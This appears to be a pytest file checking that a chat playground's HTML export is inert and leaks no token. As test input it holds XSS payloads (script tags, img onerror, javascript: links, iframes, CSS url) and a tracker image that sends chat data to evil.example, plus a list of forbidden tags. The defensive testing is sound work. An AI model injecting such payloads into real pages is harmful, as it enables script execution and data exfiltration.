"""Export HTML: one self-contained file that runs nothing and fetches nothing when opened."""

from __future__ import annotations

from html.parser import HTMLParser

from playground.chat.tools.calls import ToolCall
from playground.promptsets.records import CellResult, CheckResult, RunColumn, RunRow, RunSpec
from playground.reports.sharing import freeze_run, freeze_workspace, snapshot_html
from playground.workspace.types import CUSTOM, CardConfig, CustomConfig, Message, Workspace

CANARY = "sk-canary-html-91b2"
HOSTILE = (
    "<script>alert('x')</script> <img src=https://evil.example/p.png onerror=alert(1)>\n\n"
    "![tracker](https://evil.example/t.gif?chat=secret) "
    "[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) "
    '<a href="https://evil.example">raw</a> <iframe src="https://evil.example"></iframe>\n\n'
    "[fine](https://example.com/docs) <style>body{background:url(https://evil.example/x)}</style>"
)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(text)
    return parser.tags


def hostile_workspace() -> Workspace:
    ws = Workspace()
    ws.cards[0].config = CardConfig(
        model=CUSTOM, custom=CustomConfig(base_url=f"https://u:{CANARY}@h.example/v1", model_id="m")
    )
    ws.cards[0].messages = [
        Message(role="user", content="<img src=https://evil.example/u.png> hi"),
        Message(
            role="assistant",
            content=HOSTILE,
            reasoning="<script>r()</script>",
            tool_calls=[ToolCall(index=0, name="<b>f</b>", arguments="{}", result="<img src=x>")],
        ),
    ]
    return ws


def assert_inert(page: str) -> None:
    tags = parsed(page)
    names = {tag for tag, _ in tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "link", "base", "form"}
    assert [tag for tag, _ in tags].count("style") == 1  # the file's own styles
    for tag, attrs in tags:
        assert "src" not in attrs and "srcset" not in attrs, tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        href = attrs.get("href")
        if href is not None:
            assert tag == "a" and href.startswith(("https://", "http://", "mailto:")), href
            assert attrs.get("rel") == "noopener noreferrer nofollow"
    style = page.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "url(" not in style and "@import" not in style
    assert "javascript:" not in page.replace("[click](javascript:", "")


def test_a_chat_snapshot_is_inert_and_readable() -> None:
    page = snapshot_html(freeze_workspace(hostile_workspace()))
    assert_inert(page)
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in page  # shown, not run
    assert "tracker" in page and "image not loaded" in page
    hrefs = [a.get("href") for tag, a in parsed(page) if tag == "a"]
    assert "https://example.com/docs" in hrefs
    assert "default-src 'none'" in page  # the CSP forbids every fetch, too
    assert "m (Custom, https://h.example/v1)" in page


def test_no_token_in_the_html() -> None:
    page = snapshot_html(freeze_workspace(hostile_workspace()))
    assert CANARY not in page


def test_a_run_snapshot_shows_its_summary_and_grid_inert() -> None:
    spec = RunSpec(
        title="t",
        columns=[
            RunColumn(card_id="a", label="1 · m1", config=CardConfig(endpoint="E", model="m1"))
        ],
        rows=[RunRow(number=1, prompt="<script>p()</script>")],
    )
    cells = [CellResult(row=0, col=0, status="done", text=HOSTILE)]
    page = snapshot_html(freeze_run(spec, cells, []))
    assert_inert(page)
    assert "&lt;script&gt;p()&lt;/script&gt;" in page and "1 · m1" in page


def test_a_cell_asked_three_times_shows_each_answer_and_how_many_passed() -> None:
    spec = RunSpec(
        title="t",
        columns=[RunColumn(card_id="a", label="1 · m", config=CardConfig(endpoint="E", model="m"))],
        rows=[RunRow(number=1, prompt="2+2?")],
        runs=3,
    )
    cells = [
        CellResult(row=0, col=0, run=n, status="done", text=f"answer {n}", checks=[passed])
        for n, passed in enumerate(
            CheckResult(check="contains:4", passed=ok) for ok in (True, False, True)
        )
    ]
    snapshot = freeze_run(spec, reversed(cells), [])
    assert [c.run for c in snapshot.cells] == [0, 1, 2]
    assert [len(a) for a in snapshot.answers_at().values()] == [3]
    page = snapshot_html(snapshot)
    assert_inert(page)
    assert "3 answers · 2/3 passed" in page
    assert all(f"answer {n}" in page for n in range(3))
